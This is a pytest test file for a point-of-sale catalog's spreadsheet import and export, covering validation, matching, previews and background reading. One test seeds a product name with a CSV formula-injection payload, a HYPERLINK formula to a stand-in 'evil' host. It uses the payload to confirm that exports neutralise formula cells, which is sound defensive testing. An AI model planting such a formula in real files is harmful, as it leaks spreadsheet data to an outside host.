"""Importing a catalog file: the preview says what would change and which rows are wrong (row, column,
reason); applying writes all of it or nothing; matching is by internal code, then by barcode."""

from __future__ import annotations

import csv
import io
import multiprocessing
import uuid
from datetime import timedelta

import pytest
import xlsxwriter
from sqlalchemy import delete, event, select, text, update

from openkassa.accounts.models import User
from openkassa.accounts.service import actor_of
from openkassa.catalog import exports, imports, service
from openkassa.catalog.models import CatalogImport, ImportRow
from openkassa.catalog.schemas import ProductIn
from openkassa.cli import main
from openkassa.db import utcnow
from openkassa.errors import Invalid
from openkassa.i18n import language
from openkassa.jobs.service import housekeeping

HEADER = "Наименование;Код;Штрихкоды;Цена;НДС;Единица измерения;Группа"


@pytest.fixture
def shop(new_point) -> dict:
    return new_point("Магазин у дома")


@pytest.fixture
def actor(db, owner):
    with db.transaction() as session:
        return actor_of(session, user_id=session.scalars(select(User.id).where(User.email == "owner@shop.ru")).one())


@pytest.fixture
def check_file(db, actor, shop):
    """Check a file for the shop's catalog; returns the import after the check."""

    def run(path) -> CatalogImport:
        with db.transaction() as session:
            import_id = imports.start(session, actor, uuid.UUID(shop["catalog_id"]), path.name).id
        imports.check(db, import_id, path)
        with db.transaction() as session:
            return imports.get(session, actor, import_id)

    return run


@pytest.fixture
def check(check_file, tmp_path):
    """Upload a CSV (lines joined) and check it; returns the import after the check."""

    def run(*lines: str, name: str = "товары.csv") -> CatalogImport:
        path = tmp_path / name
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return check_file(path)

    return run


@pytest.fixture
def apply(db, actor):
    def run(job: CatalogImport, skip_invalid: bool = False) -> CatalogImport:
        with db.transaction() as session:
            return imports.apply(session, actor, job.id, skip_invalid=skip_invalid)

    return run


@pytest.fixture
def catalog(db, actor, shop):
    """The shop's products as {name: (code, barcodes, price, vat, group name)}."""

    def read() -> dict:
        catalog_id = uuid.UUID(shop["catalog_id"])
        with db.transaction() as session:
            groups = {node.id: node.name for node in _walk(service.list_groups(session, actor, catalog_id))}
            page = service.list_products(session, actor, catalog_id, archived=None, limit=500)
            return {card.product.name: (card.product.code, card.barcodes, card.product.price, card.product.vat,
                                        groups.get(card.product.group_id)) for card in page.cards}

    return read


def _walk(nodes):
    for node in nodes:
        yield node
        yield from _walk(node.children)


def problems_of(db, job) -> list[tuple[int, str, str]]:
    with db.transaction() as session:
        return [(p.row, p.column, p.message) for p in imports.problems(session, job)]


def test_a_new_file_previews_then_creates_products_groups_and_barcodes(check, apply, catalog):
    # given a file of three new products, two in a nested group
    job = check(HEADER,
                "Молоко 3,2%;M-1;4600000000022;89,90;10%;шт;Молочные/Молоко",
                "Кефир;M-2;4600000000039, 4600000000046;94,50;10%;шт;Молочные",
                "Хлеб;;4600000000015;59.90;без НДС;шт;")
    # when it is checked, then the preview counts three new rows and nothing wrong
    assert (job.state, job.new, job.changed, job.unchanged, job.invalid) == ("ready", 3, 0, 0, 0)
    assert catalog() == {}  # nothing is written before applying
    # when it is applied
    apply(job)
    # then the products are there with their barcodes, prices, VAT codes and groups
    assert catalog() == {
        "Молоко 3,2%": ("M-1", ["4600000000022"], 8990, 2, "Молоко"),
        "Кефир": ("M-2", ["4600000000039", "4600000000046"], 9450, 2, "Молочные"),
        "Хлеб": ("", ["4600000000015"], 5990, 6, None),
    }


def test_the_same_file_again_changes_nothing(check, apply, catalog):
    lines = (HEADER, "Молоко;M-1;4600000000022;89,90;10%;шт;Молочные", "Хлеб;;4600000000015;59,90;без НДС;шт;")
    apply(check(*lines))
    before = catalog()

    again = check(*lines)

    assert (again.new, again.changed, again.unchanged) == (0, 0, 2)
    apply(again)
    assert catalog() == before


def test_rows_match_by_code_then_by_barcode(check, apply, catalog):
    apply(check(HEADER, "Молоко;M-1;4600000000022;89,90;10%;шт;", "Хлеб;;4600000000015;59,90;без НДС;шт;"))

    # the milk is found by its code though its name changed; the bread by its barcode
    job = check(HEADER, "Молоко 3,2% 1 л;M-1;4600000000022;99,90;10%;шт;", "Хлеб ржаной;;4600000000015;59,90;без НДС;шт;")

    assert (job.new, job.changed) == (0, 2)
    apply(job)
    assert set(catalog()) == {"Молоко 3,2% 1 л", "Хлеб ржаной"}
    assert catalog()["Молоко 3,2% 1 л"][2] == 9990


def test_a_column_the_file_lacks_is_left_as_it_is(check, apply, catalog):
    apply(check(HEADER, "Молоко;M-1;4600000000022;89,90;10%;шт;Молочные"))

    job = check("Код;Цена", "M-1;95,00")  # no name column: refused, the name is required
    assert job.state == "failed" and "Наименование" in job.error

    apply(check("Наименование;Код;Цена", "Молоко;M-1;95,00"))
    assert catalog()["Молоко"] == ("M-1", ["4600000000022"], 9500, 2, "Молочные")


def test_every_invalid_row_is_listed_by_row_column_and_reason_and_nothing_is_written(db, check, apply, catalog):
    job = check(
        HEADER,
        "Молоко;M-1;4600000000021;89,90;10%;шт;",  # wrong check digit
        "Кефир;M-2;;-5;10%;шт;",  # negative price
        "Х" * 129 + ";M-3;;10;10%;шт;",  # name too long
        "Сок;M-4;;10;НДС 33%;шт;",  # unknown VAT
        "Вода;M-5;;45;без НДС;шт;",  # fine
    )

    assert (job.new, job.invalid) == (1, 4)
    found = {(row, column): message for row, column, message in problems_of(db, job)}
    assert set(found) == {(2, "Штрихкоды"), (3, "Цена"), (4, "Наименование"), (5, "НДС")}
    assert "4600000000021" in found[(2, "Штрихкоды")] and "должна быть 2" in found[(2, "Штрихкоды")]
    with pytest.raises(Invalid, match="4"):
        apply(job)
    assert catalog() == {}

    apply(job, skip_invalid=True)
    assert set(catalog()) == {"Вода"}


def test_a_code_or_barcode_given_twice_or_owned_by_another_product_is_refused(db, check, apply):
    apply(check(HEADER, "Молоко;M-1;4600000000022;89,90;10%;шт;"))

    job = check(
        HEADER,
        "Кефир;K-1;4600000000039;94,50;10%;шт;",
        "Ряженка;K-1;;80;10%;шт;",  # the code of row 2 again
        "Снежок;S-1;4600000000039;70;10%;шт;",  # the barcode of row 2 again
        "Йогурт;Y-1;4600000000022;60;10%;шт;",  # the milk's barcode
    )

    assert (job.new, job.invalid) == (1, 3)
    problems = {row: (column, message) for row, column, message in problems_of(db, job)}
    assert problems[3] == ("Код", "Код K-1 уже есть в строке 2.")
    assert problems[4] == ("Штрихкоды", "Штрихкод 4600000000039 уже есть в строке 2.")
    assert problems[5][0] == "Штрихкоды" and "Молоко" in problems[5][1]


def test_a_file_that_is_not_a_spreadsheet_fails_with_a_reason(db, actor, shop, tmp_path):
    path = tmp_path / "price.xlsx"
    path.write_bytes(b"MZ\x90\x00" + bytes(200))  # a program renamed
    with db.transaction() as session:
        import_id = imports.start(session, actor, uuid.UUID(shop["catalog_id"]), path.name).id

    imports.check(db, import_id, path)

    with db.transaction() as session:
        job = imports.get(session, actor, import_id)
        assert job.state == "failed" and job.error
        with pytest.raises(Invalid):
            imports.apply(session, actor, import_id)


def test_the_shell_imports_a_file_into_a_points_catalog(shop, tmp_path, capsys, catalog):
    path = tmp_path / "catalog.csv"
    path.write_text(HEADER + "\nМолоко;M-1;4600000000022;89,90;10%;шт;\n", encoding="utf-8")

    main(["import", "--point", shop["id"], str(path)])

    assert "new: 1" in capsys.readouterr().out
    assert set(catalog()) == {"Молоко"}


@pytest.mark.parametrize("file_format", ["xlsx", "xls", "csv"])
def test_exporting_and_importing_the_result_changes_nothing(db, actor, shop, check, check_file, apply, catalog, tmp_path,
                                                         file_format):
    # given a catalog with groups, several barcodes, fractional prices and every kind of VAT and unit
    apply(check(
        HEADER + ";Артикул;Весовой;В архиве;Минимальная цена",
        "Молоко 3,2%;M-1;4600000000022;89,90;10%;шт;Молочные/Молоко;A-7;нет;нет;80",
        "Сыр «Российский»;C-1;4600000000039 4600000000046;1234,56;НДС 22%;кг;Молочные;;да;нет;0",
        "Пакет;;2000000000008;0,01;без НДС;шт;;;нет;да;0",
    ))
    before = catalog()
    # when the catalog is exported and the file imported again
    path = tmp_path / f"export.{file_format}"
    with db.transaction() as session, path.open("wb") as out:
        exports.write(session, actor, uuid.UUID(shop["catalog_id"]), file_format, out)
    job = check_file(path)
    # then every row is unchanged
    assert (job.state, job.new, job.changed, job.invalid, job.unchanged) == ("ready", 0, 0, 0, 3)
    assert catalog() == before


def test_a_product_made_between_the_preview_and_applying_is_updated_not_doubled(db, actor, shop, check, apply, catalog):
    # given a checked file with a product the catalog does not have yet
    job = check(HEADER, "Молоко;M-1;4600000000022;89,90;10%;шт;")
    assert job.new == 1
    # when somebody adds that product by hand before the file is applied
    with db.transaction() as session:
        service.create_product(session, actor, uuid.UUID(shop["catalog_id"]), ProductIn(name="Молоко", code="M-1", price=100))
    apply(job)
    # then the file updates it: one product, the file's price
    assert catalog() == {"Молоко": ("M-1", ["4600000000022"], 8990, 2, None)}


def test_only_the_row_whose_barcodes_differ_is_changed(check, apply):
    # given two products with barcodes, and another import waiting in the same database
    apply(check(HEADER, "Молоко;M-1;4600000000022;89,90;10%;шт;", "Кефир;K-1;4600000000039;94,50;10%;шт;"))
    check(HEADER, "Творог;T-1;4600000000046;120;10%;шт;")
    # when a file changes the kefir's barcodes only
    job = check(HEADER, "Молоко;M-1;4600000000022;89,90;10%;шт;", "Кефир;K-1;4600000000039 4600000000015;94,50;10%;шт;")
    # then the milk is unchanged and only the kefir changes
    assert (job.changed, job.unchanged) == (1, 1)


def test_a_group_too_deep_or_too_long_and_too_many_barcodes_are_refused(db, check, apply, catalog):
    deep = "/".join(f"Уровень {n}" for n in range(11))
    many = " ".join(f"CODE{n}" for n in range(21))
    longest = "/".join(f"{level}" + "Г" * 127 for level in range(10))  # ten names of 128: 1,289 characters
    job = check(HEADER, f"Молоко;M-1;;89,90;10%;шт;{deep}", f"Сыр;C-1;{many};500;10%;шт;",
                "Хлеб;H-1;;" + "59,90;10%;шт;" + "Г" * 129, f"Соль;S-1;;20;10%;шт;{longest}")

    assert job.state == "ready", job.error
    problems = {(row, column) for row, column, _message in problems_of(db, job)}
    assert problems == {(2, "Группа"), (3, "Штрихкоды"), (4, "Группа")}
    assert job.invalid == 3 and job.new == 1 and catalog() == {}
    # and the longest path a card allows goes in whole
    apply(job, skip_invalid=True)
    assert catalog()["Соль"][4] == "9" + "Г" * 127


def test_a_csv_export_never_hands_excel_a_formula_and_reads_back_the_same(db, actor, shop, check, check_file, apply, catalog,
                                                                           tmp_path):
    # given a product whose name a cashier typed as a formula, and a code-128 barcode starting with «=»
    apply(check("Наименование;Код;Штрихкоды;Цена", '=HYPERLINK("http://evil/?"&A1);F-1;=1+2;10'))
    # and one whose name starts with a quote and a minus, as the export's guard does
    with db.transaction() as session:
        service.create_product(session, actor, uuid.UUID(shop["catalog_id"]), ProductIn(name="'-5% по карте", code="F-2"))
    assert set(catalog()) == {'=HYPERLINK("http://evil/?"&A1)', "'-5% по карте"}
    before = catalog()
    # when the catalog is exported to CSV
    path = tmp_path / "export.csv"
    with db.transaction() as session, path.open("wb") as out:
        exports.write(session, actor, uuid.UUID(shop["catalog_id"]), "csv", out)
    # then no cell begins with a formula sign, and importing the file back changes nothing
    cells = [cell for line in path.read_text(encoding="utf-8-sig").splitlines()[1:] for cell in line.split(";")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
    job = check_file(path)
    assert (job.state, job.unchanged, job.changed, job.new) == ("ready", 2, 0, 0)
    assert catalog() == before
    # and the same CSV opened in a spreadsheet, which shows the guarding quotes, and saved as .xlsx
    # (every cell as the text it shows) imports back unchanged too
    saved = tmp_path / "edited.xlsx"
    workbook = xlsxwriter.Workbook(str(saved), {"strings_to_numbers": False, "strings_to_formulas": False})
    sheet = workbook.add_worksheet()
    for number, cells in enumerate(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";")):
        sheet.write_row(number, 0, cells)
    workbook.close()
    job = check_file(saved)
    assert (job.state, job.unchanged, job.changed, job.new) == ("ready", 2, 0, 0)


def test_a_file_that_would_break_a_rule_with_what_it_leaves_as_it_is_is_refused(db, check, apply, catalog):
    # given cheese sold by the kilogram and milk at 89.90 with no free price
    apply(check(HEADER + ";Весовой", "Сыр;C-1;;500;10%;кг;;да", "Молоко;M-1;;89,90;10%;шт;;нет"))
    # when a file sets only the cheese's unit to pieces and only the milk's minimum price above its price
    job = check("Наименование;Код;Единица измерения;Минимальная цена", "Сыр;C-1;шт;", "Молоко;M-1;шт;95")
    # then both rows are refused, each naming the column the file gives, and nothing changes
    assert set(problems_of(db, job)) == {
        (2, "Единица измерения", "Весовой товар измеряется в граммах, килограммах или тоннах."),
        (3, "Минимальная цена", "Минимальная цена не может быть выше цены."),
    }
    assert job.invalid == 2
    with pytest.raises(Invalid):
        apply(job)
    assert catalog()["Молоко"][2] == 8990


@pytest.mark.parametrize("typed", ["Сыр   Российский", "Сыр\xa0Российский"])
def test_a_name_with_doubled_or_no_break_spaces_is_read_as_the_card_keeps_it(db, actor, shop, check, apply, typed):
    # given a card typed with doubled (or no-break) spaces, which the card keeps as one plain space
    with db.transaction() as session:
        card = service.create_product(session, actor, uuid.UUID(shop["catalog_id"]), ProductIn(name=typed, code="C-1"))
    assert card.product.name == "Сыр Российский"
    # when a file names it with the same spaces, then nothing changes
    job = check("Наименование;Код", f"{typed};C-1")
    assert (job.unchanged, job.changed) == (1, 0)


def test_an_import_left_unapplied_for_a_week_is_forgotten_by_the_worker(db, check, apply):
    # given an import applied long ago, one checked and left a week ago, and one checked today
    applied, left, today = (check(HEADER, f"Товар {n};T-{n};;10;10%;шт;") for n in range(3))
    apply(applied)
    with db.transaction() as session:
        session.execute(update(CatalogImport).where(CatalogImport.id.in_([applied.id, left.id]))
                        .values(created_at=utcnow() - imports.KEPT - timedelta(minutes=1)))
    # when the worker's housekeeping runs
    housekeeping(db)
    # then the one left a week is gone with its staged rows; the applied one stays as history
    with db.transaction() as session:
        assert set(session.scalars(select(CatalogImport.id))) == {applied.id, today.id}
        assert set(session.scalars(select(ImportRow.import_id))) == {today.id}


def test_an_import_that_fills_an_empty_catalog_builds_the_indexes_after_and_leaves_them_as_they_were(
        db, check, apply, catalog, monkeypatch):
    if db.engine.dialect.name != "sqlite":
        pytest.skip("SQLite builds the indexes after a bulk insert; PostgreSQL keeps them")
    indexes = ("SELECT name, sql FROM sqlite_master WHERE type IN ('index', 'trigger') "
               "AND tbl_name IN ('products', 'product_barcodes')")
    with db.transaction() as session:
        before = set(session.execute(text(indexes)).all())
    # given a file that more than doubles the products table (the threshold lowered to its size)
    monkeypatch.setattr(imports, "BULK_ROWS", 2)
    job = check(HEADER, "Молоко;M-1;4600000000022;89,90;10%;шт;", "Йогурт ёлочка;Y-1;4600000000039;94,50;10%;шт;")
    # when it is applied (the indexes and the search trigger dropped and made again meanwhile)
    statements = []

    def remember(_connection, _cursor, statement, *_rest):
        statements.append(statement)

    event.listen(db.engine, "before_cursor_execute", remember)
    try:
        apply(job)
    finally:
        event.remove(db.engine, "before_cursor_execute", remember)
    assert 'DROP TRIGGER "products_fts_insert"' in statements
    assert 'DROP INDEX "ix_products_catalog_name"' in statements
    # then the products are there, and every index and trigger is back as it was
    with db.transaction() as session:
        assert set(session.execute(text(indexes)).all()) == before
    assert set(catalog()) == {"Молоко", "Йогурт ёлочка"}
    # and they serve: a search (ё found by е), a barcode, and a code given again is still refused as taken
    with db.transaction() as session:
        actor = actor_of(session, user_id=session.scalars(select(User.id).where(User.email == "owner@shop.ru")).one())
        catalog_id = job.catalog_id
        found = service.list_products(session, actor, catalog_id, search_text="елоч").cards
        assert [card.product.name for card in found] == ["Йогурт ёлочка"]
        assert service.find_by_barcode(session, actor, catalog_id, "4600000000022").product.name == "Молоко"
    with pytest.raises(Invalid), db.transaction() as session:
        service.create_product(session, actor, catalog_id, ProductIn(name="Другое молоко", code="M-1"))


@pytest.mark.parametrize("lines, column", [
    (("Наименование;Код;Весовой", "Сыр;C-1;да"), "Весовой"),  # a new product takes pieces, which do not weigh
    (("Наименование;Цена;Минимальная цена", "Сыр;;50"), "Минимальная цена"),  # an empty price is 0
    (("Наименование;Минимальная цена", "Сыр;50"), "Минимальная цена"),  # a new product's price is 0
])
def test_a_new_product_that_would_break_a_rule_with_the_defaults_is_refused(db, check, catalog, lines, column):
    job = check(*lines)
    assert [(row, problem_column) for row, problem_column, _message in problems_of(db, job)] == [(2, column)]
    assert job.invalid == 1 and job.new == 0


def test_rows_staged_by_an_import_deleted_with_its_catalog_are_purged_by_the_worker(db, check):
    # given a checked import whose record goes away as a deleted catalog takes its imports
    gone, kept = check(HEADER, "Соль;S-1;;20;10%;шт;"), check(HEADER, "Сахар;S-2;;90;10%;шт;")
    with db.transaction() as session:
        session.execute(delete(CatalogImport).where(CatalogImport.id == gone.id))
    # when the worker's housekeeping runs, then its staged rows go and the other import's stay
    housekeeping(db)
    with db.transaction() as session:
        assert set(session.scalars(select(ImportRow.import_id))) == {kept.id}


# --- a large file is read by a second process -------------------------------------------------------


@pytest.fixture
def read_apart(monkeypatch) -> list[str]:
    """Have every file read by the second process a large file gets; returns the names read so."""
    monkeypatch.setattr(imports, "READ_APART_ROWS", 0)
    names, real = [], imports._read_apart

    def spy(path, filename, *args):
        names.append(filename)
        yield from real(path, filename, *args)

    monkeypatch.setattr(imports, "_read_apart", spy)
    return names


def test_a_large_file_read_by_a_second_process_previews_as_the_same_file_read_in_place(check, read_apart, monkeypatch, db):
    # given a file with good rows, rows with bad cells and a group, read in this process by an English speaker
    lines = (HEADER, "Молоко;M-1;4600000000022;89,90;10%;шт;Молочные/Молоко", "Хлеб;M-2;4600000000023;-5;10%;шт;",
             "Кефир;M-3;4600000000039;94,50;18%;шт;Молочные", "Сыр;M-1;;300;20%;кг;")
    monkeypatch.setattr(imports, "READ_APART_ROWS", 10**9)
    with language("en"):
        in_place = check(*lines)
    # when the same file is read by the second process a large file gets
    monkeypatch.setattr(imports, "READ_APART_ROWS", 0)
    with language("en"):
        apart = check(*lines, name="большой.csv")
    assert read_apart == ["большой.csv"]
    # then the preview and every problem are the same, in the same words, the person's language
    counts = lambda job: (job.state, job.new, job.changed, job.unchanged, job.invalid)  # noqa: E731
    assert counts(apart) == counts(in_place) == ("ready", 1, 0, 0, 3)
    assert problems_of(db, apart) == problems_of(db, in_place)
    assert (3, "Цена", "An amount cannot be negative: «-5».") in problems_of(db, apart)


def test_the_second_process_reads_every_row_of_several_batches(check_file, read_apart, tmp_path, catalog, apply):
    # given a file of two and a half batches
    rows = imports.BATCH * 5 // 2
    path = tmp_path / "товары.csv"
    path.write_text("\n".join([HEADER, *(f"Товар {n};T-{n};;10;10%;шт;" for n in range(rows))]) + "\n", encoding="utf-8")
    # when the second process reads it, then every row is new, once, and applying creates them all
    job = check_file(path)
    assert read_apart == ["товары.csv"]
    assert (job.state, job.rows_total, job.new, job.invalid) == ("ready", rows, rows, 0)
    apply(job)
    assert len(catalog()) == 500  # the first page: the catalog lists them


def test_a_file_without_its_columns_read_by_a_second_process_fails_with_the_reason(check, read_apart):
    # when a file with no name column is read by the second process
    job = check("Код;Цена", "M-1;10")
    # then the import fails naming the missing column, as it would in place
    assert read_apart and job.state == "failed" and "Наименование" in job.error


def test_a_program_read_by_a_second_process_fails_as_not_a_spreadsheet(check_file, read_apart, tmp_path):
    # given a program renamed to .csv
    path = tmp_path / "товары.csv"
    path.write_bytes(b"MZ\x90\x00" + bytes(200))
    # when the second process reads it, then the import fails with the reason, and no process is left
    job = check_file(path)
    assert read_apart and job.state == "failed" and job.error
    assert multiprocessing.active_children() == []


@pytest.mark.parametrize("apart", [False, True], ids=["in place", "by a second process"])
def test_cancelling_while_a_file_is_checked_stops_reading_it_and_leaves_nothing_staged(
        db, actor, shop, tmp_path, monkeypatch, request, apart):
    # given a file of three batches (read here a row a batch, or by the second process a large file
    # gets, in batches of its own size), and the person cancelling after the first batch
    if apart:
        read_apart, batch = request.getfixturevalue("read_apart"), imports.BATCH
    else:
        monkeypatch.setattr(imports, "BATCH", 1)
        read_apart, batch = None, 1
    path = tmp_path / "товары.csv"
    path.write_text("\n".join([HEADER, *(f"Товар {n};T-{n};;10;10%;шт;" for n in range(batch * 3))]) + "\n", encoding="utf-8")
    with db.transaction() as session:
        import_id = imports.start(session, actor, uuid.UUID(shop["catalog_id"]), path.name).id
    batches = []

    def cancel_after_the_first(total):
        batches.append(total)
        if len(batches) == 1:
            with db.transaction() as session:
                imports.cancel(session, actor, import_id)

    # when the check runs, then it stops at the next batch, no reading process is left and nothing is staged
    imports.check(db, import_id, path, cancel_after_the_first)
    assert batches == [batch] and (read_apart is None or read_apart == ["товары.csv"])
    assert multiprocessing.active_children() == []
    with db.transaction() as session:
        assert session.scalars(select(ImportRow.row).where(ImportRow.import_id == import_id)).all() == []
